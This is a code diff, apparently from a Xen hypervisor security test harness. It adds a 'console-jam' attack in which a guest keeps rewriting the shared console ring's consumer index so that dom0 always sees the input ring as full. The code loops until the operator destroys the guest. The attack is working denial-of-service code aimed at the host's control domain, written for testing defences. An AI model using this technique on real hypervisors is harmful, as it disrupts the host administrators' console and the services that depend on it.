@@ -168,6 +168,29 @@ static int32_t a_console_flood(void)
     return consfront_write("after\n", 6);
 }
 
+/*
+ * DOM0-2 (BSA-2026-7): show dom0 an input ring that is exactly full, for
+ * good. We own in_cons, so whatever dom0 writes, in_prod - in_cons is the
+ * ring size. Never returns: dom0's operator has to get past it (Ctrl-])
+ * and destroy us.
+ */
+static int32_t a_console_jam(void)
+{
+    struct xencons_interface *c;
+    uint32_t rounds = 0;
+
+    CHECK_RC("open the console", consfront_open(), 0);
+    c = consfront_page();
+    while (c) {
+        uint32_t prod = __atomic_load_n(&c->in_prod, __ATOMIC_SEQ_CST);
+        __atomic_store_n(&c->in_cons, prod - XENCONS_IN_SIZE, __ATOMIC_SEQ_CST);
+        if (rounds++ == 0)
+            gprintf("ATTACK DOM0-2 console-jam: input ring jammed full\n");
+        pv_sleep_ns(1000000ull);
+    }
+    return -ENODEV;
+}
+
 struct attack {
     const char *name, *rule;
     int32_t (*run)(void);
@@ -187,6 +210,7 @@ static const struct attack attacks[] = {
     { "grant-copy-foreign-frame", "GNT-7", a_copy_to_foreign_frame, GNTST_bad_page },
     { "ring-flood", "RING-1", a_ring_flood, -ETIMEDOUT },
     { "console-flood", "RING-7", a_console_flood, -EIO },
+    { "console-jam", "DOM0-2", a_console_jam, 0 },
 };
 
 /* Our own channels and grants still work. */
